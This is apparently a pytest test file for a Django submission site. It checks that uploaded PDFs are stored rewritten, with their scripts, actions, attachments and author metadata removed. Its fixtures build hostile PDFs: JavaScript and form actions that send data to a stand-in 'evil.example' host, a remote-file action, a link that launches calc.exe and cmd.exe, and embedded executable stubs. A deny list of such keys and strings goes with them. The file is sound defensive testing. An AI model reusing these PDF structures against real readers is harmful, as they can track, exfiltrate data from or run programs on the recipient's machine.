"""PDFs are rewritten, not screened: what a moderator downloads cannot run a script, call a
web address or a remote file, start a program, carry another file, or name its author."""

import io

import pikepdf
import pytest

from submissions.models import Attachment, Submission
from tests import pdf_helpers as pdfs
from tests import submission_helpers as files
from tests.conftest import submission_form_data

pytestmark = pytest.mark.django_db

JS = b"app.alert('CANARY-js'); this.submitForm('https://evil.example/collect');"
EVIL_URL = b"https://evil.example/track?who=moderator"

HOSTILE = {
    "javascript in an object stream under ASCIIHex": lambda: pdfs.build(
        catalog_extra=b"/OpenAction 10 0 R",
        packed={10: b"<< /Type /Action /S /JavaScript /JS (" + JS + b") >>"},
        packed_filter="ASCIIHexDecode",
    ),
    "javascript name tree in an object stream under ASCII85": lambda: pdfs.build(
        catalog_extra=b"/Names 10 0 R",
        packed={
            10: b"<< /JavaScript << /Names [(startup) 11 0 R] >> >>",
            11: b"<< /S /JavaScript /JS 12 0 R >>",
        },
        objects={12: b"<< /Length %d >>\nstream\n" % len(JS) + JS + b"\nendstream"},
        packed_filter="ASCII85Decode",
    ),
    "open action calling a web address": lambda: pdfs.build(
        catalog_extra=b"/OpenAction << /S /URI /URI (" + EVIL_URL + b") >>",
    ),
    "open action with a remote file (GoToR)": lambda: pdfs.build(
        catalog_extra=b"/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf)"
        b" /D [0 /Fit] /NewWindow true >>",
    ),
    "page open action with a web address (AA)": lambda: pdfs.build(
        page_extra=b"/AA << /O << /S /URI /URI (" + EVIL_URL + b") >> >>",
    ),
    "link annotation that launches a program": lambda: pdfs.build(
        page_extra=b"/Annots [10 0 R]",
        objects={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] "
            b"/A << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c CANARY-launch) >> >> >>"
        },
    ),
    "embedded file": lambda: pdfs.build(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 10 0 R] >> >>",
        objects={
            10: b"<< /Type /Filespec /F (evil.exe) /EF << /F 11 0 R >> >>",
            11: b"<< /Type /EmbeddedFile /Length 16 >>\nstream\nMZ CANARY-embed\nendstream",
        },
    ),
    "file attachment annotation": lambda: pdfs.build(
        page_extra=b"/Annots [10 0 R]",
        objects={
            10: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 11 0 R >>",
            11: b"<< /Type /Filespec /F (a.exe) /EF << /F 12 0 R >> >>",
            12: b"<< /Type /EmbeddedFile /Length 16 >>\nstream\nMZ CANARY-embed\nendstream",
        },
    ),
    "XFA form that submits data": lambda: pdfs.build(
        catalog_extra=b"/AcroForm << /Fields [10 0 R] /XFA 11 0 R >>",
        page_extra=b"/Annots [10 0 R]",
        objects={
            10: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 9 9] "
            b"/AA << /K << /S /SubmitForm /F (" + EVIL_URL + b") >> >> >>",
            11: b"<< /Length 40 >>\nstream\n<xdp:xdp>CANARY-xfa ImportData</xdp:xdp>\nendstream",
        },
    ),
    "author metadata and XMP": lambda: pdfs.build(
        catalog_extra=b"/Metadata 11 0 R",
        info=10,
        objects={
            10: b"<< /Author (" + pdfs.CANARY.encode() + b") /Creator (CANARY-creator) "
            b"/CreationDate (D:20240301120000+03'00') >>",
            11: b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n" % len(files.XMP)
            + files.XMP
            + b"\nendstream",
        },
    ),
}

FORBIDDEN_KEYS = {
    "/JS",
    "/JavaScript",
    "/OpenAction",
    "/AA",
    "/URI",
    "/Launch",
    "/EmbeddedFiles",
    "/EF",
    "/AcroForm",
    "/XFA",
    "/Metadata",
    "/Author",
    "/Creator",
    "/FS",
}
FORBIDDEN_TEXT = [
    "canary",
    "evil.example",
    "calc.exe",
    "cmd.exe",
    "/javascript",
    "/launch",
    "/gotor",
    "/submitform",
    "/importdata",
    "/uri",
]


def send(client, data):
    upload = files.upload("ruling.pdf", data, "application/pdf")
    response = client.post("/submit/", submission_form_data(attachments=[upload]))
    assert "receipt-code" in response.content.decode(), response.content.decode()[:3000]
    return Submission.objects.get().attachments.get()


def stored(attachment):
    with attachment.file.open("rb") as handle:
        return handle.read()


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_hostile_pdf_is_stored_rewritten_without_its_trap(client, kind):
    original = HOSTILE[kind]()
    with pikepdf.open(io.BytesIO(original)):
        pass  # the hand-built file is a valid PDF, so the test is about the cleaning

    attachment = send(client, original)

    data = stored(attachment)
    text, keys = pdfs.every_object_text(data)
    assert not keys & FORBIDDEN_KEYS, keys & FORBIDDEN_KEYS
    for word in FORBIDDEN_TEXT:
        assert word not in text, word
        assert word.encode() not in data.lower(), word
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 1  # the document itself is still there
        assert pdfs.PAGE_CONTENT in pdf.pages[0].Contents.read_bytes()
        assert "/Info" not in pdf.trailer
    assert attachment.metadata_removed is True
    assert attachment.kind == Attachment.Kind.PDF


def test_a_link_within_the_document_is_kept(client):
    original = pdfs.build(
        page_extra=b"/Annots [10 0 R]",
        objects={
            10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
            b"/A << /S /GoTo /D [3 0 R /Fit] >> >>"
        },
    )
    data = stored(send(client, original))
    with pikepdf.open(io.BytesIO(data)) as pdf:
        [link] = pdf.pages[0].Annots
        assert str(link.A.S) == "/GoTo"


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"%PDF-1.7\n" + b"garbage " * 200, "damaged or incomplete"),
        (b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF", "damaged or incomplete"),
    ],
)
def test_a_pdf_that_cannot_be_parsed_is_refused_and_the_draft_kept(client, data, message):
    upload = files.upload("broken.pdf", data, "application/pdf")
    response = client.post("/submit/", submission_form_data(attachments=[upload], unit="Unit 42"))
    html = response.content.decode()
    assert message in html
    assert 'value="Unit 42"' in html
    assert not Submission.objects.exists()


def test_an_encrypted_pdf_is_refused_with_a_translated_message(client):
    output = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdfs.build())) as pdf:
        pdf.save(output, encryption=pikepdf.Encryption(owner="owner", user="", R=6))
    upload = files.upload("locked.pdf", output.getvalue(), "application/pdf")

    response = client.post(
        "/submit/",
        submission_form_data(attachments=[upload], unit="Unit 42"),
        HTTP_ACCEPT_LANGUAGE="ru",
    )

    html = response.content.decode()
    assert "защищён паролем или зашифрован" in html
    assert 'value="Unit 42"' in html
    assert not Submission.objects.exists()


def test_the_form_says_that_pdfs_are_cleaned_too(client):
    html = client.get("/submit/").content.decode()
    assert "rewrite PDFs without their author, metadata, scripts" in html
